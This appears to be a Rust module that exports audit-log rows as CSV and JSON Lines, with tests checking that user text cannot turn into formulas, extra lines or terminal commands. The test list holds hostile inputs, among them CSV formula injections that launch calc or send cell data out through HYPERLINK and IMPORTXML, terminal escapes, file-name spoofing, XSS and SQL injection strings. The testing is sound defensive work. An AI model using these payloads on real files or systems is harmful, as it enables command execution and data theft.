//! Rows as files. What people typed must not become anything else there: not a formula, not a line, not a terminal's
//! command.

use super::Record;
use crate::{
    clock::rfc3339,
    spreadsheet::{inert, written},
};

const HEAD: [&str; 11] = [
    "id", "time", "name", "email", "action", "bucket", "path", "subject", "ip", "outcome", "detail",
];

pub(super) fn csv_head() -> anyhow::Result<Vec<u8>> {
    written(|csv| csv.write_record(HEAD))
}

pub(super) fn csv(rows: &[Record]) -> anyhow::Result<Vec<u8>> {
    written(|csv| {
        for row in rows {
            let text = |value: &Option<String>| inert(value.as_deref().unwrap_or_default());
            csv.write_record([
                row.seq.to_string(),
                rfc3339(row.at),
                text(&row.member_name),
                text(&row.member_email),
                inert(&row.action),
                text(&row.bucket_name),
                text(&row.path),
                text(&row.subject),
                text(&row.ip),
                inert(&row.outcome),
                text(&row.detail),
            ])?;
        }
        Ok(())
    })
}

pub(super) fn jsonl(rows: &[Record]) -> anyhow::Result<Vec<u8>> {
    let mut lines = Vec::new();
    for row in rows {
        serde_json::to_writer(&mut lines, row)?;
        lines.push(b'\n');
    }
    Ok(lines)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::spreadsheet::is_unseen;

    fn payloads() -> Vec<String> {
        let formulas = [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
            "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
            "+1+1",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "-1+1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            "%0A=1",
            "|=1",
        ];
        let fronts = [
            "", " ", "\t", "\r", "\n", "\r\n", "\0", "\u{a0}", "\u{feff}", "\u{200b}", "\u{3000}",
            "\x1b[2J", "  \t ", "\u{202e}",
        ];
        let mut payloads: Vec<String> = fronts
            .iter()
            .flat_map(|front| formulas.map(|formula| format!("{front}{formula}")))
            .collect();
        for other in [
            "\"",
            "\"\"",
            "\",\"",
            "\"\r\n=1+1",
            "a\nb",
            "a\r\nid,time",
            ";=1+1",
            "a;=1+1",
            "',=1",
            "\\\"",
            "\x1b]0;title\x07",
            "\x1b[31mred",
            "\u{9b}31m",
            "a\u{202e}gpj.exe",
            "\u{85}",
            "{{7*7}}",
            "${7*7}",
            "<script>alert(1)</script>",
            "' OR 1=1 --",
            "2026-11-24",
            "00123",
            "photo - 1.jpg",
            "naïve 😀",
            "'",
            "''",
            "",
            " ",
            "\u{2028}",
            "a\0b",
            "\\n",
            "\u{ad}",
        ] {
            payloads.push(other.to_owned());
            payloads.push(format!("{other}\t"));
            payloads.push(format!("x{other}"));
        }
        payloads
    }

    #[test]
    fn three_hundred_payloads_stay_text_in_every_column() {
        let payloads = payloads();
        assert!(payloads.len() >= 300, "{}", payloads.len());
        for payload in payloads {
            let text = Some(payload.clone());
            let row = Record {
                member_name: text.clone(),
                member_email: text.clone(),
                action: payload.clone(),
                bucket_name: text.clone(),
                path: text.clone(),
                subject: text.clone(),
                ip: text.clone(),
                outcome: payload.clone(),
                detail: text,
                ..Record::default()
            };
            let bytes = [
                csv_head().unwrap(),
                csv(std::slice::from_ref(&row)).unwrap(),
            ]
            .concat();
            let file = String::from_utf8(bytes).unwrap();
            assert_eq!(file.lines().count(), 2, "{payload:?} became a line");
            assert!(
                !file
                    .trim_end()
                    .contains(|c: char| c != '\n' && is_unseen(c)),
                "{payload:?}"
            );
            // As a program reads it that knows no quotes and takes any usual separator.
            for cell in file.split([',', ';', '\t', '\n', '|']) {
                let begins = cell.trim_start_matches(['"']).chars().next();
                let is_ours = cell.starts_with("\"'") || !cell.starts_with('"');
                assert!(
                    is_ours || !begins.is_some_and(|c| "=+-@".contains(c)),
                    "{payload:?}: {cell}"
                );
            }
            // And as RFC 4180 has it.
            let mut reader = csv::Reader::from_reader(file.as_bytes());
            let rows: Vec<_> = reader.records().collect::<Result<_, _>>().unwrap();
            assert_eq!(rows.len(), 1);
            for cell in rows[0].iter().skip(2) {
                assert!(
                    !cell
                        .trim_start()
                        .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']),
                    "{payload:?}: {cell:?}"
                );
                let shown: String = payload
                    .chars()
                    .map(|c| {
                        if is_unseen(c) {
                            c.escape_default().to_string()
                        } else {
                            c.into()
                        }
                    })
                    .collect();
                assert_eq!(
                    cell.strip_prefix('\'').unwrap_or(cell),
                    shown.strip_prefix('\'').unwrap_or(&shown)
                );
            }
            // A line of JSON is the row itself.
            let lines = String::from_utf8(jsonl(std::slice::from_ref(&row)).unwrap()).unwrap();
            assert_eq!(lines.lines().count(), 1, "{payload:?}");
            assert!(!lines.contains(['\0', '\x1b', '\r', '\t']), "{payload:?}");
            let read: serde_json::Value = serde_json::from_str(&lines).unwrap();
            assert_eq!(read["path"], payload.as_str());
        }
    }

    #[test]
    fn ordinary_text_stays_as_it_is() {
        for cell in ["photo - 1.jpg", "a=b", "Größe 2/3", "", "O'Hara", "50%"] {
            assert_eq!(inert(cell), cell);
        }
    }
}
